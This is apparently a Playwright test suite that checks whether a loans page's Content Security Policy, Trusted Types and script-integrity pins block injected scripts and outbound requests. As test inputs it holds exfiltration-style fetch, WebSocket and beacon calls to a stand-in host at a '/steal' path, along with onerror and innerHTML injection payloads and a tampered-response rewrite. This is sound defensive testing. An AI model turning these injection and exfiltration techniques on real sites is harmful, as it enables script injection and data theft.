import type { Page } from '@playwright/test'
import { expect, test } from '../fixtures/test.ts'
import { servedBuild } from '../fixtures/variants.ts'

/** What a script does that must never run. */
const INTRUDE = 'globalThis.intruded = true'

test('the page’s own rules leave no way around the pins', async ({ page }) => {
  const headers = (await page.goto('/loan'))?.headers() ?? {}
  const policy = headers['content-security-policy']
  expect(policy).toContain("script-src 'self';")
  expect(policy).toContain("require-trusted-types-for 'script'")
  expect(policy).not.toContain('unsafe')
  expect(headers['integrity-policy']).toBe('blocked-destinations=(script)')
})

test('a page talks to its own site and to nobody else', async ({ visitor: page }) => {
  const headers = (await page.goto('/loan'))?.headers() ?? {}
  expect(headers['content-security-policy']).toContain("connect-src 'self';")
  const told = await page.evaluate(async () => {
    const violations: string[] = []
    addEventListener('securitypolicyviolation', event => violations.push(event.blockedURI))
    await fetch('https://elsewhere.example/steal').catch(() => {})
    try {
      new WebSocket('wss://elsewhere.example/steal')
    } catch {}
    navigator.sendBeacon('https://elsewhere.example/beacon')
    const own = new WebSocket(`ws://${location.host}/market`)
    const isOpen = await new Promise(resolve => {
      own.onopen = () => resolve(true)
      own.onerror = () => resolve(false)
    })
    own.close()
    return { violations, isOpen }
  })
  expect(told).toEqual({
    violations: [
      'https://elsewhere.example/steal',
      'wss://elsewhere.example/steal',
      'https://elsewhere.example/beacon',
    ],
    isOpen: true,
  })
})

test('a script that nobody pinned never runs, however it is brought in', async ({ visitor: page }) => {
  await page.route('**/assets/intruder.js', route =>
    route.fulfill({ contentType: 'text/javascript', body: INTRUDE }),
  )
  await page.goto('/loan')
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Loans')
  const refusals = await page.evaluate(code => {
    const tries: Record<string, () => void> = {
      address() {
        document.createElement('script').src = '/assets/intruder.js'
      },
      text() {
        document.createElement('script').textContent = code
      },
      markup() {
        document.createElement('div').innerHTML = `<img src="x" onerror="${code}">`
      },
      timer() {
        setTimeout(code)
      },
    }
    return Object.entries(tries).map(([name, attempt]) => {
      try {
        attempt()
        return `${name}: let through`
      } catch (error) {
        return `${name}: ${error instanceof Error ? error.name : error}`
      }
    })
  }, INTRUDE)
  expect(refusals).toEqual(['address: TypeError', 'text: TypeError', 'markup: TypeError', 'timer: TypeError'])
  expect(await hasIntruded(page)).toBe(false)
})

test('a page that was altered on its way runs none of what was added', async ({ visitor: page }) => {
  await page.route('**/assets/intruder.js', route =>
    route.fulfill({ contentType: 'text/javascript', body: INTRUDE }),
  )
  await page.route('**/loan', async route => {
    const response = await route.fetch()
    const added = `<script>${INTRUDE}</script><script src="/assets/intruder.js"></script><img src="x" onerror="${INTRUDE}">`
    await route.fulfill({ response, body: (await response.text()).replace('</body>', `${added}</body>`) })
  })
  const refused = page.waitForEvent('console', message => /Content Security Policy/.test(message.text()))
  await page.goto('/loan')
  await refused
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Loans')
  expect(await page.locator('script[src="/assets/intruder.js"]').count()).toBe(1)
  expect(await hasIntruded(page)).toBe(false)
})

test('other bytes at a pinned address never run, with the hash or without one', async ({
  visitor: page,
  site,
}) => {
  const { manifest } = await servedBuild(site, 'mfe-loan')
  await page.goto('/loan')
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Loans')
  const address = `/remotes/mfe-loan/${manifest.version}/${manifest.entry}`
  await page.route(`**${address}`, route => route.fulfill({ contentType: 'text/javascript', body: INTRUDE }))
  for (const integrity of [manifest.files[manifest.entry]?.sha384 ?? '', '']) {
    const outcome = await page.evaluate(
      ([src = '', hash = '']) =>
        new Promise<string>(resolve => {
          const script = document.createElement('script')
          script.src = new URL(src, document.baseURI).href
          script.crossOrigin = 'anonymous'
          script.integrity = hash
          script.addEventListener('load', () => resolve('ran'))
          script.addEventListener('error', () => resolve('refused'))
          document.head.append(script)
        }),
      [address, integrity],
    )
    expect(outcome).toBe('refused')
  }
  expect(await hasIntruded(page)).toBe(false)
})

function hasIntruded(page: Page): Promise<boolean> {
  return page.evaluate(() => 'intruded' in globalThis)
}
